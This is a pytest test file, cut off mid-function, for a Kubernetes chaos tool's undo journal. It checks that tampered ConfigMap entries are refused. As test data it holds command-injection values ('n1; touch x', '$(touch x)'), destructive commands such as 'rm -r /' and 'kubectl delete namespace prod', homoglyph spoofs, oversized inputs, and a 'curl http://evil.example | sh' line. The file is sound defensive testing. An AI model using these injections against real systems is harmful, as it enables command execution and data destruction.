"""A hostile undo journal: whatever a ConfigMap says, undoing does only what a fault has done, to what is ours."""

from __future__ import annotations

import json
import shlex
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import asdict, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast, get_args

import pytest

from chaos.clock import NS
from chaos.cluster import Done
from chaos.faults.infrastructure import CommandInfrastructure, Infrastructure
from chaos.faults.undo import find, find_left, undo_all, undo_leftovers, undo_of_deployed
from chaos.objects.base import Ref
from chaos.safety import UndoEntry
from chaos.safety.consent import ADOPT, ENABLED
from chaos.safety.owner import HIDDEN, Owner
from chaos.safety.undo_journal import OURS, RUN, SYSTEM, UNDO_LABELS, UndoKind, own_namespace
from chaos.safety.undo_rules import RULES
from chaos.system.manifests.names import namespace_name

HERE = "gameday-a"
POD = Ref("Pod", HERE, "chat-1", "pod-1")
CONTAINER = {"container": "model", "container_id": "containerd://ab12"}
PROCESS = {**CONTAINER, "process": "model-engine"}
METRICS = {"program": "metrics-server"}
GENUINE: Mapping[UndoKind, UndoEntry] = {
    one.kind: one
    for one in (
        UndoEntry("uncordon", Ref("Node", "", "n1", "node-1"), ""),
        UndoEntry("node-on", Ref("Node", "", "n1", "node-1"), ""),
        UndoEntry("restore-part", Ref("Deployment", HERE, "chat", "d-1"), "", {"path": "/spec/replicas", "before": 3}),
        UndoEntry("continue-process", POD, "", PROCESS),
        UndoEntry("signal-process", POD, "", {**PROCESS, "signal": "USR2"}),
        UndoEntry("thaw-container", POD, "", {**CONTAINER, "node": "n1"}),
        UndoEntry("run-ready", POD, "", CONTAINER),
        UndoEntry("pass-probes", POD, "", {"node": "n1", "address": "10.1.2.3", "port": 8080}),
        UndoEntry("reconnect-pod", POD, "", {"node": "n1", "address": "10.1.2.3"}),
        UndoEntry("delete-policy", Ref("NetworkPolicy", HERE, "gameday-cut-1"), "", {"pod": asdict(POD)}),
        UndoEntry("delete-job", Ref("Job", HERE, "gameday-load-1"), ""),
        UndoEntry("continue-metrics", Ref("APIService", "", "v1beta1.metrics.k8s.io", "a-1"), "", METRICS),
    )
}


def aimed(**changes: Any) -> Callable[[UndoEntry], UndoEntry]:
    """The entry with another target."""
    return lambda entry: replace(entry, target=replace(entry.target, **changes))


def saying(**detail: Any) -> Callable[[UndoEntry], UndoEntry]:
    """The entry with other details."""
    return lambda entry: replace(entry, detail={**entry.detail, **detail})


DIGEST = f"sha256:{'0a' * 32}"


def template(before: object, wanted: object, *also: object) -> Callable[[UndoEntry], UndoEntry]:
    """The entry of a pod template that was that, and was to be another."""
    detail = {"path": "/spec/template", "before": before, "wanted": wanted, "also": list(also)}
    return lambda entry: replace(entry, detail=detail)


def budget(before: object, wanted: object) -> Callable[[UndoEntry], UndoEntry]:
    """The entry of a disruption budget that had that spec, and was to get another."""
    detail = {"path": "/spec", "before": before, "wanted": wanted}
    return lambda entry: replace(aimed(kind="PodDisruptionBudget")(entry), detail=detail)


def nested(depth: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """Two alike that are so deep that a parser takes them, and a comparison may not."""
    text = '{"a":' * depth + "1" + "}" * depth
    return json.loads(text), json.loads(text)


EVERY = tuple(GENUINE)
NAMESPACED = tuple(kind for kind, one in GENUINE.items() if one.target.namespace)
PROCESSES: tuple[UndoKind, ...] = ("continue-process", "signal-process")
CONTAINERS: tuple[UndoKind, ...] = (*PROCESSES, "thaw-container", "run-ready")
BELOW: tuple[UndoKind, ...] = ("thaw-container", "pass-probes", "reconnect-pod")
HOSTILE: Mapping[str, tuple[tuple[UndoKind, ...], Callable[[UndoEntry], UndoEntry]]] = {
    "a namespace": (EVERY, aimed(kind="Namespace", namespace="", name="prod")),
    "a binding": (EVERY, aimed(kind="ClusterRoleBinding", namespace="", name="cluster-admin")),
    "a Secret": (EVERY, aimed(kind="Secret", namespace=HERE, name="token")),
    "another namespace": (NAMESPACED, aimed(namespace="prod")),
    "no namespace": (NAMESPACED, aimed(namespace="")),
    "no UID": (tuple(kind for kind in EVERY if not RULES[kind].made), aimed(uid="")),
    "an option for a name": (EVERY, aimed(name="-oProxyCommand=touch /tmp/x")),
    "a shell's name": (EVERY, aimed(name="n1; touch x")),
    "a path for a name": (EVERY, aimed(name="../../namespaces/prod")),
    "another part": (("restore-part",), saying(path="/spec/template/spec/serviceAccountName")),
    "the taints of a node": (("restore-part",), aimed(kind="Node", namespace="", name="n1")),
    "negative replicas": (("restore-part",), saying(before=-1)),
    "many replicas": (("restore-part",), saying(before=10**9)),
    "replicas in words": (("restore-part",), saying(before="0")),
    "an option for a process": (PROCESSES, saying(process="-1")),
    "every process": (PROCESSES, saying(process="")),
    "a shell's process": (PROCESSES, saying(process="engine; touch x")),
    "a shell's words for a process": (PROCESSES, saying(process="$(touch x)")),
    "a line for a process": (PROCESSES, saying(process="engine\ntouch x")),
    "every process a signal": (("signal-process",), saying(process="*")),
    "another command": (("run-ready",), saying(ready=["rm", "-r", "/"])),
    "an option for where it is sent through": (PROCESSES, saying(through="--help")),
    "a port in words": (("pass-probes",), saying(port="8080; flush ruleset")),
    "no port": (("pass-probes",), saying(port=0)),
    "a switch for a port": (("pass-probes",), saying(port=True)),
    "words for a container": (CONTAINERS, saying(container="model --")),
    "a signal with words": (("signal-process",), saying(signal="KILL 1")),
    "a node's option": (BELOW, saying(node="--help")),
    "every address": (("reconnect-pod", "pass-probes"), saying(address="0.0.0.0/0")),
    "another's pod": (("delete-policy",), saying(pod={**asdict(POD), "namespace": "prod"})),
    "another kind of pod": (("delete-policy",), saying(pod={**asdict(POD), "kind": "Node"})),
    "more than a pod": (("delete-policy",), saying(pod={**asdict(POD), "path": "x"})),
    "a pod that is none": (("delete-policy",), saying(pod=[])),
    "a pod without a UID": (("delete-policy",), saying(pod={**asdict(POD), "uid": {}})),
    "a number for a pod": (("delete-policy",), saying(pod={**asdict(POD), "name": 7})),
    "a node in a namespace": (("uncordon", "node-on"), aimed(namespace="prod")),
    "an API in a namespace": (("continue-metrics",), aimed(namespace=HERE)),
    "another program": (("continue-metrics",), saying(program="kubelet-n1")),
    "every program": (("continue-metrics",), saying(program="*")),
    "no program": (("continue-metrics",), saying(program="")),
    "a list of programs": (("continue-metrics",), saying(program=["metrics-server"])),
    "a program that looks alike": (("continue-metrics",), saying(program="metrics-s\u0435rver")),
    "a program with words": (("continue-metrics",), saying(program="metrics-server; touch x")),
    "words for a UID": (EVERY, aimed(uid="u-1\n::error::")),
    "a letter that looks alike": (EVERY, lambda entry: aimed(name=entry.target.name[:-1] + "\u0430")(entry)),
    "a full-width letter": (EVERY, lambda entry: aimed(name=entry.target.name + "\uff41")(entry)),
    "a letter that is none": (EVERY, lambda entry: aimed(name=entry.target.name + "\u200b")(entry)),
    "a number that looks alike": (NAMESPACED, aimed(namespace=HERE + "\uff11")),
    "capitals": (EVERY, lambda entry: aimed(name=entry.target.name.upper())(entry)),
    "a kind in small letters": (EVERY, lambda entry: aimed(kind=entry.target.kind.lower())(entry)),
    "a process that looks alike": (PROCESSES, saying(process="mod\u0435l-engine")),
    "a digit that looks alike": (("reconnect-pod",), saying(address="10.1.2.\u0663")),
    "a long name": (EVERY, aimed(name="n" * 254)),
    "a megabyte for a name": (EVERY, aimed(name="n" * 1_000_000)),
    "a megabyte for a kind": (EVERY, lambda entry: replace(entry, kind=cast("Any", "k" * 1_000_000))),
    "a megabyte for a fault": (EVERY, lambda entry: replace(entry, fault="f" * 1_000_000)),
    "a megabyte for a process": (PROCESSES, saying(process=" " * 1_000_000)),
    "a process with a megabyte for its name": (PROCESSES, saying(process="p" * 1_000_000)),
    "a container with one for its id": (PROCESSES, saying(container_id="c" * 1_000_000)),
    "words for an end of its own": (PROCESSES, saying(own_end_s="\n::error::")),
    "a list for an end of its own": (PROCESSES, saying(own_end_s=[600])),
    "a megabyte of what nobody knows": (EVERY, saying(**{"x" * 1_000_000: "x"})),
    "no text for a fault": (EVERY, lambda entry: replace(entry, fault=cast("Any", {"a": 1}))),
    "pairs for details": (EVERY, lambda entry: replace(entry, detail=cast("Any", [[1, "a"], ["b", "c"]]))),
    "a list for a path": (("restore-part",), saying(path=["/spec/replicas"])),
    "no path": (("restore-part",), saying(path=None)),
    "a path with a step back": (("restore-part",), saying(path="/spec/replicas/../template")),
    "a path that looks alike": (("restore-part",), saying(path="/spec/replic\u0430s")),
    "a list for a signal": (("signal-process",), saying(signal=["USR1"])),
    "a signal in small letters": (("signal-process",), saying(signal="usr1")),
    "what a person would run": (EVERY, saying(command="kubectl delete namespace prod")),
    "what the server made": (("restore-part",), saying(made={})),
    "no replica": (("restore-part",), saying(before=0)),
    "a deadly signal": (("signal-process",), saying(signal="KILL")),
    "a stop": (("signal-process",), saying(signal="STOP")),
    "a signal's number": (("signal-process",), saying(signal="9")),
    "an address with words": (("reconnect-pod", "pass-probes"), saying(address="fe80::1%; delete table ip x")),
    "a name that others give": (("delete-policy", "delete-job"), aimed(name="prod")),
    "a selector of a budget": (("restore-part",), budget({"selector": {}, "minAvailable": 1}, {"minAvailable": 1})),
    "no spec of a budget": (("restore-part",), budget("0", {})),
    "a selector of a budget in between": (
        ("restore-part",),
        lambda entry: saying(also=[{"selector": {}}])(budget({"minAvailable": 1}, {"minAvailable": 2})(entry)),
    ),
    "a number in between that is no list": (("restore-part",), saying(also=2)),
    "words for a template": (("restore-part",), template("rm -rf", DIGEST)),
    "a digest of capitals": (("restore-part",), template(DIGEST.upper(), DIGEST)),
    "a digest and more": (("restore-part",), template(DIGEST + "\n", DIGEST)),
    "a number for a template": (("restore-part",), template(7, DIGEST)),
    "no digest of what is there": (("restore-part",), template(DIGEST, None)),
    "a digest of a whole template": (("restore-part",), template({"spec": {}}, DIGEST)),
    "a whole template of a digest": (("restore-part",), template(DIGEST, {"spec": {}})),
    "a whole template in between": (("restore-part",), template(DIGEST, DIGEST, {"spec": {}})),
    "too many in between": (("restore-part",), saying(also=[2] * 9)),
    "a kind of a later version": (EVERY, lambda entry: replace(entry, kind=cast("Any", "thaw"))),
}
CELLS = [
    pytest.param(kind, change, id=f"{kind}, {name}") for name, (kinds, change) in HOSTILE.items() for kind in kinds
]


class Api:
    """A cluster that holds one undo journal and, under every name, an object that matches any UID; counts writes.

    The journal is about a namespace, and lies in the suite's own beside it, or elsewhere.
    """

    def __init__(
        self, entry: UndoEntry, *, about: str = HERE, place: str = "", owned: bool = True, labels: bool = True
    ) -> None:
        self.writes: list[object] = []
        self.asked: list[str | None] = []
        owner = replace(Owner.this_process(), pid=2**22).annotations() if owned else {}
        annotations = {RUN: "run-1", SYSTEM: about, **owner}
        self.place = place or own_namespace(about)
        metadata = {"name": "undo", "namespace": self.place, "labels": UNDO_LABELS, "annotations": annotations}
        self.journal = {"kind": "ConfigMap", "metadata": metadata, "data": {"0001": entry.text()}}
        self.namespaces: dict[str, dict[str, Any]] = {about: {"labels": dict(OURS)}}
        self.uid = entry.target.uid
        self.labels = UNDO_LABELS if labels else {}

    def list(self, kind: str, where: str | None = None, **_selector: object) -> list[dict[str, Any]]:
        """The journal, the namespaces, or the revisions of the Deployment."""
        if kind == "Namespace":
            return [{"metadata": {"name": name, **more}} for name, more in self.namespaces.items()]
        owner = {"uid": "d-1", "kind": "Deployment", "name": "chat", "controller": True}
        labels = {"app": "chat", "pod-template-hash": "abc"}
        template = {"metadata": {"labels": labels}, "spec": {"containers": [{"image": "chat:1"}]}}
        revision = {"metadata": {"uid": "rs-1", "ownerReferences": [owner]}, "spec": {"template": template}}
        if kind == "ConfigMap":
            return [self.journal] if where in (None, self.place) else []
        return [revision]

    def each(self, kind: str, **_: object) -> list[dict[str, Any]]:
        """The same, of all namespaces."""
        return self.list(kind)

    def get(self, kind: str, namespace: str | None, name: str) -> dict[str, Any] | None:
        """An object that would be worth attacking; where one was looked for is in `asked`."""
        self.asked.append(namespace)
        if kind == "Lease":
            return None
        metadata = {"name": name, "namespace": namespace, "uid": self.uid, "labels": self.labels}
        spec = {"unschedulable": True, "replicas": 1}
        return {"kind": kind, "metadata": metadata, "spec": spec}

    def do(self, mutation: Any) -> Done:
        """Count a write; one that takes off what was done in the journal itself harms nobody."""
        if mutation.target.name != "undo":
            self.writes.append(mutation)
        return Done("ok", 200, {}, "")


def undone(api: Api, infrastructure: Infrastructure) -> tuple[list[str], list[str]]:
    """What is refused, and what becomes of the rest, even where somebody insists (`--force`)."""
    cluster = cast("Any", api)
    found = find_left(cluster, None, of_others="all")
    results = undo_all(cluster, cluster, found, infrastructure=infrastructure)
    return [text for one in found for text in one.refused], [f"{one.result} {one.words}" for one in results]


@pytest.fixture
def infrastructure(tmp_path: Path) -> Infrastructure:
    """Commands that would leave a file behind."""
    return Infrastructure(CommandInfrastructure(f"touch {tmp_path}/ran-{{node}}", f"touch {tmp_path}/ran-{{node}}"))


def test_the_cells_cover_every_kind() -> None:
    """No kind of entry is without rules, nor without an attack."""
    assert set(GENUINE) == set(RULES) == set(get_args(UndoKind))


@pytest.mark.parametrize(("kind", "change"), CELLS)
def test_a_hostile_entry_is_told_and_left_alone(
    kind: UndoKind, change: Callable[[UndoEntry], UndoEntry], infrastructure: Infrastructure, tmp_path: Path
) -> None:
    """No write, no process; it is reported, and blocks no other."""
    api = Api(change(GENUINE[kind]))
    refused, results = undone(api, infrastructure)
    assert len(refused) == 1
    assert len(refused[0]) < 1000
    assert results == []
    assert api.writes == []
    assert list(tmp_path.iterdir()) == []
    for namespace in (None, HERE):
        blocked = undo_leftovers(cast("Any", api), namespace, infrastructure)
        assert (blocked, api.writes, list(tmp_path.iterdir())) == ((), [], [])


@pytest.mark.parametrize("kind", EVERY)
def test_a_journal_of_nobody_is_left_alone(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """Who writes no owner wrote no journal of ours, and is not a dead run."""
    api = Api(GENUINE[kind], owned=False)
    refused, results = undone(api, infrastructure)
    assert "nobody says that it is theirs" in refused[0]
    assert (results, api.writes) == ([], [])


@pytest.mark.parametrize("place", [HERE, "team-b", own_namespace("team-b"), "default", "kube-system"])
@pytest.mark.parametrize("kind", EVERY)
def test_what_lies_where_others_may_write_is_left_alone(
    kind: UndoKind, place: str, infrastructure: Infrastructure
) -> None:
    """An entry that is right word by word is none of ours in the service's namespace, nor beside another service."""
    api = Api(GENUINE[kind], place=place)
    assert find_left(cast("Any", api), HERE) == ()
    api.namespaces[place] = {"annotations": {ADOPT: ENABLED}, "labels": dict(OURS)}
    assert undone(api, infrastructure)[1] == []
    (left,) = find_left(cast("Any", api), None)
    assert left.alive or left.refused
    (read,) = find_left(cast("Any", api), None, of_others="all")
    assert "it is not where the journals of namespace 'gameday-a' lie" in read.refused[0]
    assert (read.entries, api.writes) == ((), [])


def test_each_namespace_has_one_of_its_own() -> None:
    """Its name is one that the API server takes, told apart from others where it had to be cut."""
    assert own_namespace("llm") == "llm-gameday"
    names = [f"{'n' * 50}{number:013}" for number in range(20)]
    made = {own_namespace(name) for name in names}
    assert len(made) == len(names)
    assert {len(name) for name in made} == {63}


@pytest.mark.parametrize("kind", NAMESPACED)
def test_nothing_of_kubernetes_own_is_undone(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """A journal about kube-system is nobody's of ours."""
    api = Api(aimed(namespace="kube-system")(GENUINE[kind]), about="kube-system")
    refused, results = undone(api, infrastructure)
    assert "is Kubernetes' own" in refused[0]
    assert (results, api.writes) == ([], [])


@pytest.mark.parametrize("kind", ["delete-policy", "delete-job"])
def test_what_does_not_bear_our_label_is_not_deleted(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """An object of the right kind and name that this suite did not make stays."""
    api = Api(GENUINE[kind], labels=False)
    refused, results = undone(api, infrastructure)
    assert refused == []
    assert "does not bear the label" in results[0]
    assert api.writes == []


@pytest.mark.parametrize(("image", "writes"), [("chat:1", 1), ("miner:1", 0)])
def test_only_a_template_that_was_rolled_out_before_is_put_back(
    image: str, writes: int, infrastructure: Infrastructure
) -> None:
    """Nobody can have a pod of his own run by writing it down as what was there before."""
    template = {"metadata": {"labels": {"app": "chat"}}, "spec": {"containers": [{"image": image}]}}
    detail = {"path": "/spec/template", "before": template, "wanted": {}}
    api = Api(UndoEntry("restore-part", Ref("Deployment", HERE, "chat", "d-1"), "", detail))
    api.do = lambda mutation: _asked(api, mutation)  # type: ignore[method-assign]
    refused, results = undone(api, infrastructure)
    assert refused == []
    assert len(api.writes) == writes, results


def _asked(api: Api, mutation: Any) -> Done:
    """What a dry run says is what is there; the rest is a write, and refused for good."""
    if mutation.query.get("dryRun"):
        return Done("ok", 200, {"spec": {"template": None}}, "")
    if mutation.target.name != "undo":
        api.writes.append(mutation)
    return Done("fail", 422, {}, "refused")


OF_THE_NODE = {
    "reconnect-pod": "left pod chat-1 may be cut off",
    "thaw-container": "left model of gameday-a/chat-1 may be frozen",
    "pass-probes": "left node n1 may drop what its kubelet asks",
}
"""Of what a node did nothing can be told from afar, where there is no such node to ask."""


@pytest.mark.parametrize("kind", [kind for kind in EVERY if not RULES[kind].made])
def test_an_entry_of_another_cluster_does_nothing(
    kind: UndoKind, infrastructure: Infrastructure, tmp_path: Path
) -> None:
    """A backup that is restored elsewhere brings the journal along; what has the name there has another UID."""
    api = Api(GENUINE[kind])
    api.uid = "of-another-cluster"
    refused, (result,) = undone(api, infrastructure)
    assert (refused, api.writes, list(tmp_path.iterdir())) == ([], [], [])
    assert result.startswith(OF_THE_NODE.get(kind, "nothing"))


@pytest.mark.parametrize("kind", ["uncordon", "restore-part", "delete-policy", "delete-job"])
def test_an_entry_that_was_undone_already_does_nothing(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """Somebody may write it down again, and a removal may fail: what reads as before is left as it is."""
    entry = GENUINE[kind]
    api = Api(entry)
    there = {"metadata": {"uid": entry.target.uid}, "spec": {"replicas": 3}} if entry.target.uid else None
    api.get = lambda *_: there  # type: ignore[method-assign]
    refused, (result,) = undone(api, infrastructure)
    assert (refused, api.writes, result.partition(" ")[0]) == ([], [], "nothing")


def test_a_node_that_an_operator_closed_again_stays_closed(infrastructure: Infrastructure) -> None:
    """An entry that is written down again after it was undone opens nobody else's node."""
    api = Api(GENUINE["uncordon"])
    closed = {"manager": "kubectl", "fieldsV1": {"f:spec": {"f:unschedulable": {}}}}
    node = {"metadata": {"uid": "node-1", "managedFields": [closed]}, "spec": {"unschedulable": True}}
    api.get = lambda *_: node  # type: ignore[method-assign]
    assert undone(api, infrastructure) == ([], ["nothing node n1 was closed anew by kubectl, so it is left to them"])
    assert api.writes == []


def test_a_node_of_another_uid_is_not_switched_on(infrastructure: Infrastructure, tmp_path: Path) -> None:
    """The command runs only for the node that the entry means."""
    api = Api(GENUINE["node-on"])
    api.uid = "another"
    _, (result,) = undone(api, infrastructure)
    assert result == "nothing node n1 is not there any more"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", EVERY)
def test_what_a_fault_writes_is_admitted(kind: UndoKind) -> None:
    """The rules let through what our own faults record."""
    (left,) = find_left(cast("Any", Api(GENUINE[kind])), None)
    assert left.refused == ()
    assert [one.kind for one in left.entries] == [kind]


BUDGET = Ref("PodDisruptionBudget", HERE, "chat", "b-1")


def test_a_bound_of_a_budget_is_put_back() -> None:
    """Its number may differ, and nothing else of its spec."""
    specs = [{"selector": {"matchLabels": {"app": "chat"}}, "minAvailable": number} for number in (2, 4)]
    detail = {"path": "/spec", "before": specs[0], "wanted": specs[1], "action": "restore-budget"}
    (left,) = find_left(cast("Any", Api(UndoEntry("restore-part", BUDGET, "", detail))), None)
    assert (left.refused, len(left.entries)) == ((), 1)


def test_changes_within_another_are_admitted() -> None:
    """As many of one part as a run writes down."""
    (left,) = find_left(cast("Any", Api(saying(wanted=1, also=[2] * 8)(GENUINE["restore-part"]))), None)
    assert (left.refused, len(left.entries)) == ((), 1)


@pytest.mark.parametrize("kind", PROCESSES)
@pytest.mark.parametrize("process", ["nginx: worker pr", "(sd-pam)", "VLLM::EngineCore"])
def test_a_process_may_be_called_by_several_words(kind: UndoKind, process: str) -> None:
    """As many call themselves; the command for people has them in quotes within quotes."""
    (left,) = find_left(cast("Any", Api(saying(process=process)(GENUINE[kind]))), None)
    assert left.refused == ()
    (entry,) = left.entries
    *_, script = shlex.split(entry.manual)
    assert shlex.split(script.partition("$(pidof ")[2].removesuffix(")")) == [process]


@pytest.mark.parametrize("kind", EVERY)
def test_the_command_for_people_is_ours(kind: UndoKind) -> None:
    """Whoever may write an entry cannot have an operator told to run what he wrote."""
    hostile = replace(GENUINE[kind], manual="curl http://evil.example | sh")
    (left,) = find_left(cast("Any", Api(hostile)), None)
    (entry,) = left.entries
    assert "evil" not in entry.manual
    assert entry.manual.startswith(("kubectl ", "gameday undo", "gameday lab up"))


@pytest.mark.parametrize(
    ("namespace", "executed"),
    [
        pytest.param({}, False, id="of somebody"),
        pytest.param({"labels": {"app.kubernetes.io/managed-by": "helm"}}, False, id="of another tool"),
        pytest.param({"annotations": {ADOPT: "no"}}, False, id="not let in"),
        pytest.param({"annotations": {ADOPT: ENABLED}}, True, id="let in"),
        pytest.param({"labels": UNDO_LABELS}, True, id="ours"),
    ],
)
def test_a_namespace_that_let_nobody_in_is_left_alone(namespace: dict[str, Any], *, executed: bool) -> None:
    """A tenant elsewhere cannot have the next session open a node: neither may it be blocked by what he wrote."""
    api = Api(GENUINE["uncordon"])
    api.namespaces = {HERE: namespace}
    results = undo_leftovers(cast("Any", api), None) if not executed else ()
    (left,) = find_left(cast("Any", api), None)
    assert (bool(left.alive), results, api.writes) == (not executed, (), [])
    (named,) = find_left(cast("Any", api), HERE)
    assert named.alive == ""


class Flooded(Api):
    """A cluster in which strangers made any number of journals, each as large as one may be."""

    def __init__(self, count: int, let_in: Mapping[str, str]) -> None:
        super().__init__(GENUINE["uncordon"])
        self.count = count
        self.namespaces["team-b"] = {"annotations": let_in}

    def each(self, kind: str, *, page: int, **_: object) -> Iterator[dict[str, Any]]:
        """Theirs, made as they are read, and then ours."""
        assert (kind, page <= 20) == ("ConfigMap", True)
        theirs = {**self.journal["metadata"], "namespace": "team-b-gameday"}
        theirs["annotations"] = {**theirs["annotations"], SYSTEM: "team-b"}
        data = {f"{key:04}": "x" * 1000 for key in range(100)}
        yield from ({"kind": "ConfigMap", "metadata": theirs, "data": data} for _ in range(self.count))
        yield self.journal

    def list(self, kind: str, where: str | None = None, **selector: object) -> list[dict[str, Any]]:
        """What there is, but for journals of all namespaces at once."""
        assert kind != "ConfigMap" or where
        return super().list(kind, where, **selector)


@pytest.mark.parametrize(("let_in", "most"), [({}, 1), ({ADOPT: ENABLED}, 50)], ids=["strangers", "let in"])
def test_no_number_of_journals_keeps_others_from_being_healed(let_in: dict[str, str], most: int) -> None:
    """Who may make ConfigMaps ends no CronJob by the memory that they take, nor fills its log: ours is found."""
    api = Flooded(500, let_in)
    left = find_left(cast("Any", api), None)
    assert [one.entries[0].kind for one in left if one.where.namespace == api.place] == ["uncordon"]
    assert len([one for one in left if one.where.namespace == "team-b-gameday"]) == most
    assert {one.alive != "" for one in left if one.where.namespace == "team-b-gameday"} == {not let_in}


@pytest.mark.parametrize("kind", EVERY)
def test_what_a_service_says_of_nodes_is_done_only_where_it_is_named(
    kind: UndoKind, infrastructure: Infrastructure, tmp_path: Path
) -> None:
    """Its owners let gameday into their namespace: who owns one of his own has no machine switched on by that."""
    api = Api(GENUINE[kind])
    api.namespaces = {HERE: {"annotations": {ADOPT: ENABLED}}}
    of_node = not GENUINE[kind].target.namespace
    (left,) = find_left(cast("Any", api), None)
    assert (len(left.entries), len(left.refused)) == ((0, 1) if of_node else (1, 0))
    assert all("gameday undo --namespace" in text for text in left.refused)
    if of_node:
        assert undo_all(cast("Any", api), cast("Any", api), [left], infrastructure=infrastructure) == ()
        assert (api.writes, list(tmp_path.iterdir())) == ([], [])
    for named, of_others in ((HERE, "inside"), (None, "all")):
        (left,) = find_left(cast("Any", api), named, of_others=cast("Any", of_others))
        assert (len(left.entries), left.refused, left.alive) == (1, (), "")


@pytest.mark.parametrize("kind", EVERY)
def test_a_label_that_its_owner_wrote_makes_no_namespace_ours(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """Who owns a namespace may label it, and cannot rename it: by its name too gameday knows what it made."""
    entry = GENUINE[kind]
    api = Api(aimed(namespace="team-b")(entry) if kind in NAMESPACED else entry, about="team-b")
    assert undo_of_deployed(cast("Any", api), infrastructure) == ()
    (left,) = find_left(cast("Any", api), None)
    assert (left.alive != "", left.entries, api.writes) == (True, (), [])
    assert namespace_name("test_kill", "ab12").startswith(find.MADE)


@pytest.mark.parametrize(("labels", "done"), [({}, []), (OURS, ["left"])], ids=["of its owners", "of gameday"])
def test_who_deploys_leaves_a_service_of_others_to_its_own_runs(labels: dict[str, str], done: list[str]) -> None:
    """A journal beside a service that let gameday in is its owners': it is neither executed nor in anybody's way."""
    api = Api(GENUINE["node-on"])
    api.namespaces = {HERE: {"annotations": {ADOPT: ENABLED}, "labels": dict(labels)}}
    assert [one.result for one in undo_of_deployed(cast("Any", api))] == done
    assert api.writes == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("[" * 200_000, id="deep"),
        pytest.param(GENUINE["uncordon"].text().replace('"deadline_ns":0', '"deadline_ns":Infinity'), id="endless"),
        pytest.param(GENUINE["uncordon"].text().replace('"uncordon"', '["uncordon"]'), id="a list for a kind"),
        pytest.param(GENUINE["uncordon"].text().replace('"Node"', "{}"), id="an object for a kind of target"),
        pytest.param(GENUINE["uncordon"].text().replace('"node-1"', "7"), id="a number for a UID"),
        pytest.param("", id="nothing"),
        pytest.param("null", id="null"),
        pytest.param("[]", id="a list"),
        pytest.param("uncordon n1", id="words"),
        pytest.param("x" * 1_000_000, id="a megabyte of words"),
        pytest.param("kind: uncordon\ntarget: {kind: Node, name: n1}", id="YAML"),
        pytest.param(GENUINE["uncordon"].text()[:-1], id="cut off"),
        pytest.param(GENUINE["uncordon"].text().replace('"deadline_ns":0', f'"deadline_ns":{"9" * 5000}'), id="digits"),
        pytest.param(GENUINE["uncordon"].text().replace('"detail":{}', '"detail":[[1,"a"],["b","c"]]'), id="pairs"),
        pytest.param(GENUINE["uncordon"].text().replace('"name":"n1"', '"name":"n1","verb":"delete"'), id="a verb"),
        *(
            pytest.param(budget(*nested(depth))(GENUINE["restore-part"]).text(), id=f"{depth} levels")
            for depth in (80, 160, 240, 320)
        ),
    ],
)
def test_what_cannot_be_read_stops_no_session(text: str) -> None:
    """A text that is no entry is told like any other, whatever it does to a parser."""
    api = Api(GENUINE["uncordon"])
    api.journal["data"]["0000"] = text
    (left,) = find_left(cast("Any", api), None)
    assert (len(left.refused), len(left.entries)) == (1, 1)
    assert len(left.refused[0]) < 1000


def test_an_owner_of_no_possible_process_is_dead() -> None:
    """A process number as long as a path may not be is nobody's."""
    api = Api(replace(GENUINE["uncordon"], deadline_ns=time.time_ns() + MINUTE_S * NS))
    api.journal["metadata"]["annotations"]["gameday.dev/owner-pid"] = "9" * 4200
    (left,) = find_left(cast("Any", api), None)
    assert left.alive == ""


@pytest.mark.parametrize("kind", ["delete-policy", "delete-job"])
def test_only_the_very_object_that_bears_the_label_is_deleted(kind: UndoKind, infrastructure: Infrastructure) -> None:
    """One of the same name that is made between the look and the deletion is safe by its UID."""
    api = Api(GENUINE[kind])
    api.uid = "seen"
    api.do = lambda mutation: _asked(api, mutation)  # type: ignore[method-assign]
    undone(api, infrastructure)
    assert {one.body["preconditions"]["uid"] for one in cast("Any", api.writes) if one.method == "DELETE"} == {"seen"}


AWAY = Owner("other-host", "boot-2/pid:[1]", 17, 99)
MINUTE_S = 60


def entry_of(owner: Owner, holder: str, renewed: datetime, *, left_s: float = MINUTE_S) -> str:
    """Why the run of an entry by that owner is taken to be at work, where a lease says who holds it, and since when.

    `left_s`: how long it is until the entry's deadline.
    """
    api = Api(replace(GENUINE["uncordon"], deadline_ns=time.time_ns() + round(left_s * NS)))
    api.journal["metadata"]["annotations"] |= owner.annotations()
    spec = {"holderIdentity": holder, "renewTime": renewed.isoformat(), "leaseDurationSeconds": 15}
    api.get = lambda _kind, _namespace, _name: {"spec": spec} if holder else None  # type: ignore[method-assign]
    (left,) = find_left(cast("Any", api), None)
    return left.alive


@pytest.mark.parametrize(
    ("holder", "age_s", "alive"),
    [
        pytest.param("process 17 on other-host, since 10:00", 5, True, id="its own lease, renewed"),
        pytest.param("process 17 on other-host, since 10:00", 90, False, id="its own lease, long ago"),
        pytest.param("process 4 on this-host, since 11:00", 5, False, id="taken over"),
        pytest.param("process 170 on other-host, since 11:00", 5, False, id="a longer number"),
        pytest.param("", 0, True, id="no lease"),
    ],
)
def test_a_run_of_another_host_is_at_work_while_it_holds_the_lease(holder: str, age_s: float, *, alive: bool) -> None:
    """Whoever took the lease over may heal what the former holder left; without any lease nobody can tell."""
    assert bool(entry_of(AWAY, holder, datetime.now(UTC) - timedelta(seconds=age_s))) is alive


@pytest.mark.parametrize(
    ("owner", "holder", "age_s", "alive"),
    [
        pytest.param(AWAY, "process 17 on other-host, since 10:00", 5, True, id="elsewhere, with its lease"),
        pytest.param(AWAY, "process 17 on other-host, since 10:00", 90, False, id="elsewhere, its lease is old"),
        pytest.param(AWAY, "process 4 on this-host, since 11:00", 5, False, id="elsewhere, taken over"),
        pytest.param(AWAY, "", 0, False, id="elsewhere, no lease"),
        pytest.param(Owner.this_process(), "", 0, False, id="here, silent"),
        pytest.param(
            Owner.this_process(), f"{Owner.this_process().words}, since 10:00", 5, True, id="here, with its lease"
        ),
        pytest.param(
            replace(Owner.this_process(), pid=2**22),
            f"process {2**22} on {Owner.this_process().host}, since 10:00",
            5,
            False,
            id="here, gone, with its lease",
        ),
    ],
)
def test_after_the_deadline_only_a_renewed_lease_says_that_a_run_lives(
